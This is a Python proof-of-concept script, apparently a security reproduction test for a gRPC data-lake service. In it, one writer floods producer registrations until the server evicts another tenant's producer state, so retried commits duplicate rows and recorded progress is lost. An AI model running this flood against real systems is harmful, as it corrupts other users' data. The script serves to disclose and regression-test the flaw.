# mypy: ignore-errors
"""A writer of shop.pub makes the server forget the producer of somebody else (hr.ledger, a log table). No crash
needed.
"""

from concurrent.futures import ThreadPoolExecutor

import grpc
import pyarrow as pa

from lakestore.rows.ipc import crc32c, encode
from lakestore.v1 import lakestore_pb2 as pb
from tests.repro.security.lib import Srv, md

L = "/lakestore.v1.Lakestore/"
s = Srv("once", secure=True, extra="limits:\n  producers: 200\n")  # default 20000 takes 39 s, see t_floods A
lk = s.lake("admin")
sch = pa.schema([("id", pa.int64())])
for n in ("shop.pub", "hr.ledger"):
    lk.create_table(n, schema=sch)
ch = s.channel()


def call(who, m, req):
    try:
        return "OK", ch.unary_unary(L + m)(req.SerializeToString(), metadata=md(who), timeout=30)
    except grpc.RpcError as e:
        return e.code().name, e.details()


P = pb.ProducerInfo.FromString(call("admin", "OpenProducer", pb.OpenProducerRequest(producer="kafka-source"))[1])
row = encode(sch, [pa.record_batch([pa.array([7])], schema=sch)])


def c(seq):
    return call(
        "admin",
        "Commit",
        pb.CommitRequest(
            changes=[pb.Change(table="hr.ledger", kind=pb.APPEND, rows=row, crc32c=crc32c(row))],
            producer="kafka-source",
            epoch=P.epoch,
            sequence=seq,
            progress=f"offset={seq}",
        ),
    )


print(
    "victim commits 1:",
    c(1)[0],
    "; retry of 1 before the attack:",
    c(1)[0],
    "rows:",
    lk.table("hr.ledger").scan().count(),
)
list(
    ThreadPoolExecutor(16).map(
        lambda i: call("writer", "OpenProducer", pb.OpenProducerRequest(producer=f"w{i}")), range(230)
    )
)
print(
    "retry of 1 after the attack:",
    c(1)[0],
    "rows:",
    lk.table("hr.ledger").scan().count(),
    "(1 was written)",
    "<-- DUPLICATE" if lk.table("hr.ledger").scan().count() > 1 else "",
)
print("victim commits 2:", c(2)[0])
print("retry of 2 before the attack:", c(2)[0], "rows:", lk.table("hr.ledger").scan().count())
list(
    ThreadPoolExecutor(16).map(
        lambda i: call("writer", "OpenProducer", pb.OpenProducerRequest(producer=f"x{i}")), range(230)
    )
)
print("retry of 2 after the attack:", c(2), "rows:", lk.table("hr.ledger").scan().count())
list(
    ThreadPoolExecutor(16).map(
        lambda i: call("writer", "OpenProducer", pb.OpenProducerRequest(producer=f"y{i}")), range(230)
    )
)
print(
    "victim's source starts again, its progress:",
    repr(
        pb.ProducerInfo.FromString(
            call("admin", "OpenProducer", pb.OpenProducerRequest(producer="kafka-source"))[1]
        ).progress
    ),
    "(was 'offset=2')",
)
print(s.stop())
